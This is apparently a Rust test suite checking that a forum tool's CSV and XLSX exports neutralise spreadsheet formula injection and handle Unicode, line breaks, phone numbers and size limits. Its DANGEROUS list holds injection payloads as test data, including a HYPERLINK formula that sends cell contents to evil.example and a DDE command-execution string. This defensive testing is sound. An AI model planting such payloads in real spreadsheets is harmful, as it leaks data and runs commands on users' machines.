//! Spreadsheet exports: formula injection is neutralised in every cell, CSV and XLSX read
//! back exactly, and large or over-limit sheets fail cleanly rather than panic.

use std::borrow::Cow;
use std::io::Cursor;

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use forumdesk::export::{
    is_phone_like, neutralise, write_csv, write_xlsx, Sheet, XLSX_MAX_CELL_CHARS, XLSX_MAX_ROWS,
};
use forumdesk::ErrorKind;

const DANGEROUS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+447700900123",
    "+1+1",
    "-2+3",
    "-",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\u{FF1D}1+1",
    "\u{FF0B}1",
    "\u{FF0D}1",
    "\u{FF20}SUM(A1)",
];

const SAFE: &[&str] = &[
    "Anne-Marie",
    "O'Neill",
    "Zoë Kowalski",
    "Flat 2-4, Moor Lane",
    "balance -5 owed",
    "a=b+c",
    "user@example.com",
    "07700 900123",
    "'already quoted",
    " =leading space is text",
    "",
    "😀 emoji",
];

#[test]
fn every_dangerous_prefix_gets_a_quote() {
    for cell in DANGEROUS {
        let safe = neutralise(cell);
        assert_eq!(safe, format!("'{cell}"), "{cell:?}");
    }
}

#[test]
fn safe_values_are_untouched_and_borrowed() {
    for cell in SAFE {
        let out = neutralise(cell);
        assert!(matches!(out, Cow::Borrowed(_)), "{cell:?} was copied");
        assert_eq!(out, *cell);
    }
}

#[test]
fn phone_like_means_only_phone_characters() {
    for phone in [
        "+447700900123",
        "07700 900123",
        "(01772) 123456",
        "+44 (0)1772-123.456",
    ] {
        assert!(is_phone_like(phone), "{phone:?}");
    }
    for not in [
        "",
        "+",
        "=1+1",
        "+44 7700 HELP",
        "-1+cmd|' /C calc'!A0",
        "+1\t2",
    ] {
        assert!(!is_phone_like(not), "{not:?}");
    }
}

fn tricky_sheet() -> Sheet {
    let headers = vec!["Name".to_owned(), "Note".to_owned(), "Mobile".to_owned()];
    let mut rows = vec![
        vec![
            "Smith, Jane".into(),
            "She said \"hello\"".into(),
            "07700 900123".into(),
        ],
        vec![
            "Siobhán O'Neill".into(),
            "line one\nline two\r\nline three".into(),
            "+447700900124".into(),
        ],
        vec!["Zoë 😀".into(), "".into(), "=HYPERLINK(\"x\")".into()],
        vec!["Begum".into(), "日本語, Ελληνικά".into(), "".into()],
    ];
    for cell in DANGEROUS.iter().chain(SAFE) {
        rows.push(vec![
            (*cell).to_owned(),
            format!("x{cell}"),
            (*cell).to_owned(),
        ]);
    }
    Sheet::new(headers, rows).with_phone_columns([2])
}

#[test]
fn csv_has_bom_crlf_and_quotes_every_field() {
    let bytes = write_csv(&tricky_sheet());
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "no BOM");
    let text = std::str::from_utf8(&bytes[3..]).expect("UTF-8");
    assert!(
        text.starts_with("\"Name\",\"Note\",\"Mobile\"\r\n"),
        "{text:.40}"
    );
    assert!(text.ends_with("\r\n"));
    // Every record break is CRLF (the only bare LFs are inside quoted cells).
    let records = text.matches("\"\r\n").count();
    assert_eq!(records, tricky_sheet().rows.len() + 1);
}

#[test]
fn csv_round_trips_through_the_csv_crate() {
    let sheet = tricky_sheet();
    let bytes = write_csv(&sheet);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(&bytes[3..]);
    let headers: Vec<String> = reader
        .headers()
        .expect("headers")
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(headers, sheet.headers);
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.expect("record").iter().map(str::to_owned).collect())
        .collect();
    let expected: Vec<Vec<String>> = sheet
        .rows
        .iter()
        .map(|row| row.iter().map(|c| neutralise(c).into_owned()).collect())
        .collect();
    assert_eq!(rows, expected);
    // CSV has no text cells, so phone numbers are neutralised too.
    assert_eq!(rows[1][2], "'+447700900124");
    assert_eq!(rows[0][2], "07700 900123");
    assert_eq!(rows[1][1], "line one\nline two\r\nline three");
}

#[test]
fn csv_neutralises_headers_and_tolerates_ragged_rows() {
    let sheet = Sheet::new(
        vec!["=evil".into(), "ok".into()],
        vec![
            vec!["only one".into()],
            vec![],
            vec!["a".into(), "b".into(), "c".into()],
        ],
    );
    let bytes = write_csv(&sheet);
    let text = std::str::from_utf8(&bytes[3..]).expect("UTF-8");
    assert!(text.starts_with("\"'=evil\",\"ok\"\r\n"), "{text}");
    assert!(text.contains("\"a\",\"b\",\"c\"\r\n"));
}

fn read_xlsx(bytes: Vec<u8>) -> (Vec<Vec<Data>>, Vec<String>) {
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).expect("opens as XLSX");
    let names = workbook.sheet_names();
    assert_eq!(names, vec!["Export".to_owned()]);
    let range = workbook.worksheet_range("Export").expect("sheet");
    let formulas = workbook.worksheet_formula("Export").expect("formulas");
    let formulas: Vec<String> = formulas.used_cells().map(|(_, _, f)| f.clone()).collect();
    (range.rows().map(<[Data]>::to_vec).collect(), formulas)
}

fn text(cell: &Data) -> String {
    match cell {
        Data::String(s) => s.clone(),
        Data::Empty => String::new(),
        other => panic!("not a text cell: {other:?}"),
    }
}

#[test]
fn xlsx_reads_back_the_same_strings_and_has_no_formulas() {
    let sheet = tricky_sheet();
    let (rows, formulas) = read_xlsx(write_xlsx(&sheet).expect("writes"));
    assert!(
        formulas.iter().all(String::is_empty),
        "formulas: {formulas:?}"
    );
    let headers: Vec<String> = rows[0].iter().map(text).collect();
    assert_eq!(headers, sheet.headers);
    assert_eq!(rows.len(), sheet.rows.len() + 1);
    for (i, (got, want)) in rows[1..].iter().zip(&sheet.rows).enumerate() {
        for (c, want) in want.iter().enumerate() {
            let expected = if c == 2 && is_phone_like(want) {
                want.clone()
            } else {
                // XLSX keeps Excel's own in-cell line break, LF.
                neutralise(want).replace("\r\n", "\n").replace('\r', "\n")
            };
            let got = got.get(c).map(text).unwrap_or_default();
            assert_eq!(got, expected, "row {} column {c}", i + 2);
        }
    }
    // In XLSX the phone column is a text cell, so E.164 numbers keep their "+".
    assert_eq!(text(&rows[2][2]), "+447700900124");
    // …but a formula typed into the phone column is still neutralised.
    assert_eq!(text(&rows[3][2]), "'=HYPERLINK(\"x\")");
}

#[test]
fn xlsx_refuses_a_cell_too_long_for_excel_without_panicking() {
    let fits = "x".repeat(XLSX_MAX_CELL_CHARS);
    let sheet = Sheet::new(vec!["Note".into()], vec![vec![fits.clone()]]);
    let (rows, _) = read_xlsx(write_xlsx(&sheet).expect("a full-length cell fits"));
    assert_eq!(text(&rows[1][0]), fits);

    let sheet = Sheet::new(
        vec!["Name".into(), "Note".into()],
        vec![
            vec!["ok".into()],
            vec!["ok".into(), "é".repeat(XLSX_MAX_CELL_CHARS + 1)],
        ],
    );
    let err = write_xlsx(&sheet).expect_err("too long");
    assert_eq!(err.kind, ErrorKind::Validation);
    assert!(
        err.message.contains("Row 3, column 2 (\"Note\")"),
        "{}",
        err.message
    );
}

#[test]
fn xlsx_refuses_more_rows_than_excel_holds() {
    let sheet = Sheet::new(vec!["Name".into()], vec![Vec::new(); XLSX_MAX_ROWS]);
    let err = write_xlsx(&sheet).expect_err("too many rows");
    assert_eq!(err.kind, ErrorKind::Validation);
    assert!(err.message.contains("CSV"), "{}", err.message);
}

#[test]
fn an_oversized_sheet_writes_without_panicking() {
    const ROWS: usize = 100_000;
    const COLUMNS: usize = 10;
    let headers = (1..=COLUMNS).map(|c| format!("Column {c}")).collect();
    let rows = (0..ROWS)
        .map(|r| (0..COLUMNS).map(|c| format!("r{r}c{c}")).collect())
        .collect();
    let sheet = Sheet::new(headers, rows);

    let csv = write_csv(&sheet);
    let records = csv::Reader::from_reader(&csv[3..]).records().count();
    assert_eq!(records, ROWS);

    // Reading a million cells back with calamine takes longer than writing them in a debug
    // build; the round trip itself is checked on the tricky sheet above.
    let xlsx = write_xlsx(&sheet).expect("writes");
    assert!(xlsx.starts_with(b"PK\x03\x04"), "not a zip container");
    assert!(
        xlsx.len() > ROWS * COLUMNS,
        "suspiciously small: {} bytes",
        xlsx.len()
    );
}
